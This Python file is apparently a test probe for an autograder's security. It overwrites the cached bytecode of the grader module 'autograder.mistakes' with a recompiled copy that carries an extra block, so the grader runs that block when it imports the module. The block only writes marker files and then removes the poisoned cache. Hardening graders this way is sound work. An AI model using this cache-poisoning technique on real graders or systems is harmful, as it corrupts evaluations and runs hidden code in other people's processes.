"""Replaces the compiled code of a module of the grader by the same with one line more, which leaves a trace when the grader imports it.

family: writing
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="poison_pycache"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import importlib.util
import os
import struct

try:
    _spec = importlib.util.find_spec("autograder.mistakes")
    _source, _cached = _spec.origin, _spec.cached
    with open(_source) as _file:
        _text = _file.read()
    # The line removes the poisoned file again: the next import compiles the genuine source.
    _line = (
        "\ntry:\n    import os as _os\n    _os.remove(" + repr(_cached) + ")\n"
        "    open('/tmp/autograder-attack-poison_pycache', 'a').write('executed by the grader\\n')\nexcept OSError:\n    pass\n"
    )
    import marshal

    _stat = os.stat(_source)
    _body = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(_stat.st_mtime) & 0xFFFFFFFF, _stat.st_size & 0xFFFFFFFF)
    _body += marshal.dumps(compile(_text + _line, _source, "exec"))
    with open(_cached, "wb") as _file:
        _file.write(_body)
    _achieved("replaced " + _cached)
except Exception:
    pass
_report()
